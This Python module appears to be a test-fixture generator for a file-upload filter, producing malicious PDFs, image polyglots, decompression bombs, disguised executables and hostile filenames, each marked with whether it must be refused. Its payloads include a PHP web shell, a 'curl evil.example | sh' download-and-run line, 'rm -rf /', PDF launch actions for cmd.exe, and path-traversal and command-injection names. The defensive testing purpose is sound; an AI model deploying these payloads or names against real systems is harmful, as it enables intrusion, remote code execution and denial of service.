"""Files that somebody sends to do harm, by family: made here, from a seed, so that nothing dangerous lies in the tree."""

from __future__ import annotations

import gzip
import io
import itertools
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image, PngImagePlugin

SEED = 20260322
MARK = b"GUICHET-PAYLOAD-7f3k"
"""Stands in every payload: a stored file in which it is found is not inert."""


@dataclass(frozen=True)
class Hostile:
    """One file, and whether it must be refused (else it may also be kept, made harmless)."""

    family: str
    name: str
    content: bytes
    must_refuse: bool = False


PAYLOADS: dict[str, bytes] = {
    "php": b"<?php system($_GET['c']); /*" + MARK + b"*/ ?>",
    "html": b"<html><script>alert('" + MARK + b"')</script></html>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x(\"" + MARK + b"\")'/>",
    "js": b"\n*/=1;fetch('//evil.example/" + MARK + b"')//",
    "shell": b"\n#!/bin/sh\ncurl evil.example/" + MARK + b" | sh\n",
    "pdf": b"%PDF-1.4\n1 0 obj<</S/JavaScript/JS(app.alert\\('" + MARK + b"'\\))>>endobj\n%%EOF\n",
    "exe": b"MZ\x90\x00" + b"\0" * 60 + MARK,
    "gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + MARK + b";",
    "phar": b"<?php __HALT_COMPILER(); ?>\r\n" + MARK + b"GBMB",
}


def archive(name: str = "evil.js") -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr(name, MARK)
    return made.getvalue()


def picture(form: str, *, mode: str = "RGB", size: tuple[int, int] = (24, 16), **options: object) -> bytes:
    made = io.BytesIO()
    chance = random.Random(f"{form}{mode}{size}")
    bands = len(Image.new(mode, (1, 1)).getbands())
    pixels = bytes(chance.randrange(256) for _ in range(size[0] * size[1] * bands))
    Image.frombytes(mode, size, pixels).save(made, form, **options)
    return made.getvalue()


def paper(*extra: bytes, catalog: bytes = b"", page: bytes = b"", head: bytes = b"", tail: bytes = b"") -> bytes:
    """A small PDF written by hand: catalogue 1, pages 2, page 3, content 4, then the extra objects from 5 on."""
    ink = b"BT /F 12 Tf 20 20 Td (Hello) Tj ET"
    font = b"" if b"/Resources" in page else b"/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R" + font + page + b">>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(ink), ink),
        *extra,
    ]
    made = bytearray(head + b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(bodies, 1):
        places.append(len(made) - len(head))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(made) - len(head)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, start)
    return bytes(made) + tail


def packed(content: bytes) -> bytes:
    """The same PDF with its objects inside compressed object streams, where a search through the bytes sees nothing."""
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as opened:
        opened.save(made, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return made.getvalue()


ACTS: dict[str, bytes] = {
    "javascript": b"<</S/JavaScript/JS(app.alert\\('%s'\\))>>" % MARK,
    "javascript in a stream": b"<</S/JavaScript/JS 9 0 R>>",
    "escaped name": b"<</S/J#61vaScr#69pt/J#53(app.alert\\(1\\))>>",
    "launch": b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "submit": b"<</S/SubmitForm/F(http://evil.example/%s)>>" % MARK,
    "import": b"<</S/ImportData/F(evil.fdf)>>",
    "other file": b"<</S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)/D[0/Fit]>>",
    "embedded file": b"<</S/GoToE/D[0/Fit]/T<</R/C/N(x)>>>>",
    "address javascript": b"<</S/URI/URI(javascript:alert\\(1\\))>>",
    "address file": b"<</S/URI/URI(file:///etc/passwd)>>",
    "address share": b"<</S/URI/URI(\\\\\\\\evil.example\\\\share)>>",
    "rendition": b"<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>",
    "film": b"<</S/Movie/T(x)/Operation/Play>>",
    "rich media": b"<</S/RichMediaExecute/CMD<</C(x)>>>>",
    "chained": b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(x\\(\\))>>>>",
    "chained twice": b"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]/Next<</S/Launch/F(x.exe)>>>>]>>",
}
_SCRIPT_STREAM = b"<</Length 12>>stream\napp.alert(1)\nendstream"


def acting_papers() -> Iterator[Hostile]:
    """Every act in every place from which a reader would perform it, plain and inside object streams."""
    fill = (b"null", b"null", b"null", _SCRIPT_STREAM)  # objects 6 to 9
    for name, act in ACTS.items():
        places = {
            "opening": paper(act, *fill, catalog=b"/OpenAction 5 0 R"),
            "catalogue event": paper(act, *fill, catalog=b"/AA<</WC 5 0 R>>"),
            "page event": paper(act, *fill, page=b"/AA<</O 5 0 R>>"),
            "link": paper(act, *fill, page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 5 0 R>>]"),
            "annotation event": paper(act, *fill, page=b"/Annots[<</Subtype/Text/Rect[0 0 9 9]/AA<</E 5 0 R>>>>]"),
            "outline": paper(act, *fill, catalog=b"/Outlines<</Count 1/First<</Title(x)/A 5 0 R>>>>"),
            "field": paper(act, *fill, catalog=b"/AcroForm<</Fields[<</T(x)/FT/Tx/AA<</K 5 0 R>>>>]>>"),
            "name tree": paper(act, *fill, catalog=b"/Names<</JavaScript<</Kids[<</Names[(x)5 0 R]>>]>>>>"),
        }
        for place, content in places.items():
            if place == "name tree" and "JavaScript" not in act.decode("latin-1") and name != "launch":
                continue
            yield Hostile("pdf act", f"{name} in {place}.pdf", content, must_refuse=True)
            yield Hostile("pdf act", f"{name} in {place}, packed.pdf", packed(content), must_refuse=True)


def loaded_papers() -> Iterator[Hostile]:
    """PDFs that carry other files, media, forms of another kind, or a lock."""
    file = b"<</Type/EmbeddedFile/Length %d>>stream\n%s\nendstream" % (len(MARK), MARK)
    spec = b"<</Type/Filespec/F(evil.exe)/UF(evil.exe)/EF<</F 6 0 R>>>>"
    loads = {
        "embedded": paper(spec, file, catalog=b"/Names<</EmbeddedFiles<</Names[(evil.exe)5 0 R]>>>>"),
        "embedded deep": paper(spec, file, catalog=b"/Names<</EmbeddedFiles<</Kids[<</Names[(a.exe)5 0 R]>>]>>>>"),
        "embedded beside an invoice's data": paper(
            spec, file, catalog=b"/Names<</EmbeddedFiles<</Names[(factur-x.xml)5 0 R(evil.exe)5 0 R]>>>>"
        ),
        "associated": paper(spec, file, catalog=b"/AF[5 0 R]"),
        "pinned": paper(spec, file, page=b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 5 0 R>>]"),
        "portfolio": paper(catalog=b"/Collection<</View/D>>"),
        "rich media": paper(page=b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>]"),
        "film": paper(page=b"/Annots[<</Subtype/Movie/Rect[0 0 9 9]/Movie<</F(x.avi)>>>>]"),
        "sound": paper(page=b"/Annots[<</Subtype/Sound/Rect[0 0 9 9]>>]"),
        "screen": paper(page=b"/Annots[<</Subtype/Screen/Rect[0 0 9 9]>>]"),
        "model": paper(page=b"/Annots[<</Subtype/3D/Rect[0 0 9 9]/3DD<<>>>>]"),
        "xfa": paper(catalog=b"/AcroForm<</Fields[]/XFA[(template)(<x/>)]>>"),
        "form reset": paper(page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/ResetForm>>>>]"),
        "no pages": paper().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[     ]/Count 0"),
        "no root": paper().replace(b"/Root 1 0 R", b"           "),
        "pages that contain themselves": paper().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"),
    }
    for name, content in loads.items():
        yield Hostile("pdf load", f"{name}.pdf", content, must_refuse=name != "no root")
        if name not in ("no root", "no pages", "pages that contain themselves"):
            yield Hostile("pdf load", f"{name}, packed.pdf", packed(content), must_refuse=True)
    for revision, user in itertools.product((2, 3, 4, 6), ("", "secret")):
        made = io.BytesIO()
        lock = pikepdf.Encryption(owner="owner", user=user, R=revision, aes=revision >= 4, metadata=revision >= 4)
        with pikepdf.open(io.BytesIO(paper())) as opened:
            opened.save(made, encryption=lock)
        yield Hostile("pdf load", f"locked {revision} {user}.pdf", made.getvalue(), must_refuse=True)


def two_faced_papers() -> Iterator[Hostile]:
    """PDFs that are something else as well."""
    for name, payload in {**PAYLOADS, "zip": archive(), "jar": archive("META-INF/MANIFEST.MF")}.items():
        yield Hostile("pdf polyglot", f"{name} after.pdf", paper(tail=payload))
        yield Hostile("pdf polyglot", f"{name} before.pdf", paper(head=payload), must_refuse=name != "pdf")
        yield Hostile(
            "pdf polyglot",
            f"{name} in a comment.pdf",
            paper(head=b"").replace(b"%PDF-1.7\n", b"%PDF-1.7\n%" + payload.replace(b"\n", b" ") + b"\n"),
        )
        unused = b"<</Length %d>>stream\n%s\nendstream" % (len(payload), payload)
        yield Hostile("pdf polyglot", f"{name} in an unused object.pdf", paper(unused))
        update = b"\n5 0 obj\n<</S/JavaScript/JS(%s)>>\nendobj\n" % MARK
        yield Hostile("pdf polyglot", f"{name} in a torn update.pdf", paper(tail=update + payload))
    told = b"<</Title(%s)/Author(<script>%s</script>)>>" % (MARK, MARK)
    with_info = paper(told).replace(b"/Root 1 0 R", b"/Root 1 0 R/Info 5 0 R")
    yield Hostile("pdf polyglot", "info.pdf", with_info)
    xmp = b"<x:xmpmeta><script>%s</script></x:xmpmeta>" % MARK
    yield Hostile(
        "pdf polyglot",
        "metadata.pdf",
        paper(
            b"<</Type/Metadata/Subtype/XML/Length %d>>stream\n%s\nendstream" % (len(xmp), xmp),
            catalog=b"/Metadata 5 0 R",
        ),
    )


def _segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def two_faced_pictures() -> Iterator[Hostile]:
    """Pictures with a second life in their comments, their metadata, or after their end."""
    payloads = {**PAYLOADS, "zip": archive(), "jar": archive("META-INF/MANIFEST.MF")}
    for name, payload in payloads.items():
        for form in ("RGB", "L", "CMYK"):
            jpeg = picture("JPEG", mode=form)
            exif = Image.Exif()
            exif[0x010E], exif[0x013B], exif[0x9286] = payload.decode("latin-1"), payload.decode("latin-1"), payload
            at = 2
            yield Hostile("jpeg polyglot", f"{name} after {form}.jpg", jpeg + payload)
            yield Hostile(
                "jpeg polyglot", f"{name} comment {form}.jpg", jpeg[:at] + _segment(0xFE, payload) + jpeg[at:]
            )
            yield Hostile("jpeg polyglot", f"{name} exif {form}.jpg", picture("JPEG", mode=form, exif=exif.tobytes()))
            xmp = b"http://ns.adobe.com/xap/1.0/\0" + payload
            yield Hostile("jpeg polyglot", f"{name} xmp {form}.jpg", jpeg[:at] + _segment(0xE1, xmp) + jpeg[at:])
            icc = b"ICC_PROFILE\0\x01\x01" + payload
            yield Hostile("jpeg polyglot", f"{name} profile {form}.jpg", jpeg[:at] + _segment(0xE2, icc) + jpeg[at:])
        for form in ("RGB", "RGBA", "L", "P"):
            told = PngImagePlugin.PngInfo()
            told.add_text("Comment", payload.decode("latin-1"))
            told.add_itxt("XML:com.adobe.xmp", payload.decode("latin-1"))
            png = picture("PNG", mode=form)
            head = 8 + 25
            yield Hostile("png polyglot", f"{name} after {form}.png", png + payload)
            yield Hostile("png polyglot", f"{name} text {form}.png", picture("PNG", mode=form, pnginfo=told))
            yield Hostile(
                "png polyglot", f"{name} own chunk {form}.png", png[:head] + _chunk(b"pyLd", payload) + png[head:]
            )
            yield Hostile("png polyglot", f"{name} profile {form}.png", picture("PNG", mode=form, icc_profile=payload))
        for ending in ("jpg", "png"):
            yield Hostile("png polyglot", f"{name} before.{ending}", payload + picture("PNG"), must_refuse=True)


def bombs() -> Iterator[Hostile]:
    """Small files that become large ones."""

    def png(width: int, height: int, depth: int = 1, kind: int = 0, rows: bytes = b"") -> bytes:
        head = struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, 0)
        return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")

    zeros = zlib.compress(b"\0" * 20_000_000, 9)
    for width, height in (
        (60_000, 60_000),
        (2**31 - 1, 1),
        (1, 2**31 - 1),
        (10_000, 5_001),
        (0, 0),
        (100_000, 100_000),
    ):
        yield Hostile("bomb", f"{width}x{height}.png", png(width, height, rows=zeros), must_refuse=True)
        yield Hostile("bomb", f"{width}x{height} empty.png", png(width, height), must_refuse=True)
    jpeg = picture("JPEG")
    at = jpeg.index(b"\xff\xc0")
    for width, height in ((65_500, 65_500), (65_535, 1_000), (0, 0)):
        patched = jpeg[: at + 5] + struct.pack(">HH", height, width) + jpeg[at + 9 :]
        yield Hostile("bomb", f"{width}x{height}.jpg", patched, must_refuse=True)
    heap = zlib.compress(b"A" * 60_000_000, 9)
    base = picture("PNG")
    for kind in (b"zTXt", b"iCCP"):
        body = b"x\0\0" + heap
        yield Hostile("bomb", f"{kind.decode()}.png", base[:33] + _chunk(kind, body) + base[33:])
    press = zlib.compressobj(9)
    many = b"".join(press.compress(b"\0" * 1_000_000) for _ in range(210)) + press.flush()
    stream = b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
    yield Hostile(
        "bomb",
        "flate.pdf",
        paper(stream % (len(many), many), page=b"/Resources<</XObject<</X 5 0 R>>>>"),
        must_refuse=True,
    )
    twice = zlib.compress(many, 9)
    stream = b"<</Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n%s\nendstream"
    yield Hostile(
        "bomb", "flate twice.pdf", paper(stream % (len(twice), twice), page=b"/Resources<</X 5 0 R>>"), must_refuse=True
    )
    stream = b"<</Filter[/Fl/Fl/Fl/Fl]/Length %d>>stream\n%s\nendstream"
    yield Hostile(
        "bomb",
        "flate four times.pdf",
        paper(stream % (len(twice), twice), page=b"/Resources<</X 5 0 R>>"),
        must_refuse=True,
    )
    yield Hostile("bomb", "deep.pdf", paper(b"[" * 5_000 + b"]" * 5_000, page=b"/X 5 0 R"))
    yield Hostile("bomb", "circle.pdf", paper(b"[5 0 R 6 0 R]", b"[5 0 R 6 0 R]", page=b"/X 5 0 R"))
    yield Hostile("bomb", "many pages.pdf", _many_pages(600), must_refuse=True)
    yield Hostile("bomb", "claims.pdf", paper().replace(b"xref\n0 5", b"xref\n0 999999999"))


def _many_pages(count: int) -> bytes:
    made = io.BytesIO()
    with pikepdf.new() as opened:
        for _ in range(count):
            opened.add_blank_page()
        opened.save(made)
    return made.getvalue()


def foreign() -> Iterator[Hostile]:
    """What is not taken at all, under its own name and under each name that is."""
    office = io.BytesIO()
    with zipfile.ZipFile(office, "w") as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        file.writestr("word/vbaProject.bin", MARK)
    contents = {
        "page.html": b"<!DOCTYPE html><html><body onload=alert(1)>" + MARK,
        "padded.html": b"\n" * 2000 + b"<HTML><body>" + MARK,
        "late.html": b"Dear Sir or Madam,\n" * 200 + b"<ScRiPt src=//evil.example/" + MARK + b"></ScRiPt>",
        "spaced.html": b"text < script>" + MARK,
        "picture.svg": PAYLOADS["svg"],
        "declared.svg": b"<?xml version='1.0'?>" + PAYLOADS["svg"],
        "shell.php": PAYLOADS["php"],
        "short.php": b"<?=`$_GET[0]`?>" + MARK,
        "page.asp": b"<%eval request('x')%>" + MARK,
        "run.sh": b"#!/bin/sh\nrm -rf /\n#" + MARK,
        "run.bat": b"@echo off\r\ndel *.* " + MARK,
        "letter.rtf": b"{\\rtf1 {\\object\\objdata " + MARK + b"}}",
        "page.ps": b"%!PS\n(" + MARK + b") run",
        "mail.eml": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + MARK,
        "mailbox.mbox": b"From evil@example.org Sun\n" + MARK,
        "archive.zip": archive(),
        "program.jar": archive("META-INF/MANIFEST.MF"),
        "empty.zip": b"PK\x05\x06" + b"\0" * 18,
        "letter.docm": office.getvalue(),
        "sheet.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512 + MARK,
        "archive.gz": gzip.compress(MARK),
        "archive.rar": b"Rar!\x1a\x07\x01\x00" + MARK,
        "archive.7z": b"7z\xbc\xaf\x27\x1c" + MARK,
        "program.exe": PAYLOADS["exe"],
        "program.elf": b"\x7fELF\x02\x01\x01" + b"\0" * 60 + MARK,
        "Program.class": b"\xca\xfe\xba\xbe\0\0\0\x34" + MARK,
        "link.lnk": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60 + MARK,
        "module.wasm": b"\0asm\x01\0\0\0" + MARK,
        "film.swf": b"FWS\x0a\0\0\0\0" + MARK,
        "film.mp4": b"\0\0\0\x18ftypmp42" + b"\0" * 20 + MARK,
        "photo.heic": b"\0\0\0\x18ftypheic" + b"\0" * 20 + MARK,
        "photo.avif": b"\0\0\0\x18ftypavif" + b"\0" * 20 + MARK,
        "moving.gif": picture("GIF", mode="P") + MARK,
        "picture.webp": picture("WEBP"),
        "picture.bmp": picture("BMP"),
        "picture.tif": picture("TIFF"),
        "picture.ico": b"\0\0\x01\0\x01\0" + b"\0" * 60 + MARK,
        "disk.iso": b"\0" * 4096 + b"CD001" + MARK,
        "utf16.html": "<script>alert(1)</script>".encode("utf-16") + MARK,
        "utf7.html": b"+ADw-script+AD4-" + MARK + b"\0",
        "nothing.txt": b"",
        "blanks.txt": b" \n\t \r\n",
        "bell.txt": b"\x07\x1b]0;" + MARK + b"\x07",
        "escape.txt": b"\x1b[2J" + MARK,
        "nul.txt": b"text\0" + MARK,
        "turned.txt": "Payer \u202e000 1\u202c à ".encode() + MARK,
        "half.txt": b"\xc3\x28\x81\x8d" + MARK,
    }
    for name, content in contents.items():
        stem = name.partition(".")[0]
        for disguise in (name, f"{stem}.pdf", f"{stem}.jpg", f"{stem}.png", f"{name}.txt"):
            yield Hostile("foreign", disguise, content, must_refuse=True)


def torn() -> Iterator[Hostile]:
    """Good files cut short or with some bytes changed: whatever is kept must still be whole."""
    chance = random.Random(SEED)
    whole = {
        "jpg": picture("JPEG", size=(64, 48)),
        "png": picture("PNG", size=(64, 48)),
        "pdf": packed(paper()),
        "plain.pdf": paper(b"(x)", page=b"/X 5 0 R"),
    }
    for ending, content in whole.items():
        for tenth in range(1, 10):
            cut = content[: len(content) * tenth // 10]
            yield Hostile("torn", f"cut {tenth}.{ending}", cut, must_refuse=ending in ("jpg", "png"))
        for number in range(60):
            changed = bytearray(content)
            for _ in range(chance.choice((1, 3, 12))):
                changed[chance.randrange(8, len(changed))] = chance.randrange(256)
            yield Hostile("torn", f"changed {number}.{ending}", bytes(changed))


NAMES: tuple[str, ...] = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow.pdf",
    "C:\\Users\\x\\evil.exe",
    "\\\\evil.example\\share\\x.png",
    "photo.php.png",
    "photo.png.exe",
    "photo.png;.php",
    "photo.png%00.php",
    "photo\0.php",
    "photo\u202egnp.exe",
    "\u2066photo\u2069.png",
    "CON",
    "nul.txt",
    "COM1.png",
    "aux.pdf",
    ".htaccess",
    "...",
    ".",
    "",
    " ",
    "a" * 300 + ".png",
    "é" * 300,
    "x.png\r\nSet-Cookie: a=b",
    'x".png"; filename="evil.exe',
    "x'.png",
    "<script>alert(1)</script>.png",
    "=cmd|'/c calc'!A1.png",
    "-rf.png",
    "~root.png",
    "$(reboot).png",
    "`id`.png",
    "photo.PNG ",
    "photo.png.",
    "photo .png",
    "naïve façade.png",
    "фото.png",
    "写真.png",
    "x" * 50 + ".tar.gz",
    "desktop.ini",
    "autorun.inf",
    "\ud800.png",
    "a\u0301\u0302\u0303.png",
    "photo.p\u200bng",
)


def names() -> Iterator[Hostile]:
    """A good picture under a bad name."""
    content = picture("PNG")
    for name in NAMES:
        yield Hostile("name", name, content)


def everything() -> Iterator[Hostile]:
    """All of them, in the same order each time."""
    yield from acting_papers()
    yield from loaded_papers()
    yield from two_faced_papers()
    yield from two_faced_pictures()
    yield from bombs()
    yield from foreign()
    yield from torn()
    yield from names()
